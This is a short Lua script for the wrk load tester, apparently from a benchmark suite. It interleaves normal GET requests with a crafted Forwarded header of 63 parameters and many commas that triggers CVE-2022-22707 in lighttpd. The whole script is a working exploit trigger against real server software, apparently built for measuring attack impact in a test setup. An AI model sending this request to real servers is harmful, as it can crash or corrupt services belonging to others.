-- wrk script: every EVERY-th request of each connection thread is the
-- CVE-2022-22707 request (a Forwarded header with 63 key=value params and
-- ATTACK_COMMAS commas, default 5; bench/attacks/lighttpd/run uses 300 for
-- the planted overflow); the others are GET /index.html.  EVERY = 0: no
-- attack.
local every = tonumber(os.getenv("ATTACK_EVERY") or "0")
local commas = tonumber(os.getenv("ATTACK_COMMAS") or "5")
local n = 0
local normal, evil

init = function(args)
  local params = {}
  for i = 1, 63 do params[i] = "a=b" end
  local fwd = table.concat(params, ";") .. string.rep(",", commas)
  -- built here, once wrk.headers holds the Host header
  normal = wrk.format("GET", "/index.html")
  local h = { ["Forwarded"] = fwd }
  for k, v in pairs(wrk.headers) do h[k] = v end
  evil = wrk.format("GET", "/index.html", h)
end

request = function()
  n = n + 1
  if every > 0 and n % every == 0 then return evil end
  return normal
end
